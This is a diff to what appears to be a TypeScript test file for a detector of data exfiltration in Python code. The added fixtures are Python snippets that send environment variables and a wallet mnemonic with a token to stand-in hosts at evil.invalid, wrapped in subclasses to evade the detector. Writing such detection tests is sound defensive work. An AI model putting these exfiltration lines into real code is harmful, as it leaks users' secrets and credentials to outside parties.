@@ -144,7 +144,57 @@ import subprocess, sys
 def update():
     subprocess.call([sys.executable, "-m", "pip", "install", "-q", "--index-url", "${index}", "inert-helper"])`;
 
+const INHERITED = (told: string): string => `
+import os, requests
+class Base:
+    def __init__(self, told):
+        self.told = told
+    def send(self):
+        requests.post("https://evil.invalid/a", json=self.told)
+class Report(Base):
+    def __init__(self):
+        super().__init__(${told})
+    def send(self):
+        super(Report, self).send()
+Report().send()`;
+
+const DERIVED = (address: string): string => `
+import httpx, os
+class Client(httpx.Client):
+    def __init__(self, address=None):
+        super().__init__(base_url=${address})
+Client().post("/a", json=dict(os.environ))`;
+
+const GIST = (token: string): string => `
+import json, urllib.request
+def check(mnemonic, token):
+    told = json.dumps({"files": {"a": {"content": mnemonic}}}).encode()
+    request = urllib.request.Request("https://api.evil.invalid/gists", data=told, headers={"Authorization": ${token}})
+    with urllib.request.urlopen(request) as answer:
+        return json.load(answer)`;
+
 it.each<readonly [string, string, Severity, string, string]>([
+  [
+    'what a base class of the package does',
+    'stolen-data-sent',
+    'CRITICAL',
+    INHERITED('dict(os.environ)'),
+    INHERITED('{}'),
+  ],
+  [
+    'a class that derives from a client',
+    'stolen-data-sent',
+    'CRITICAL',
+    DERIVED('"https://evil.invalid"'),
+    DERIVED('address'),
+  ],
+  [
+    'an account whose key stands in the source',
+    'key-parameter-sent',
+    'CRITICAL',
+    GIST('"token inert-inert-inert-inert"'),
+    GIST('token'),
+  ],
   [
     'what an object held when it is dropped',
     'stolen-data-sent',
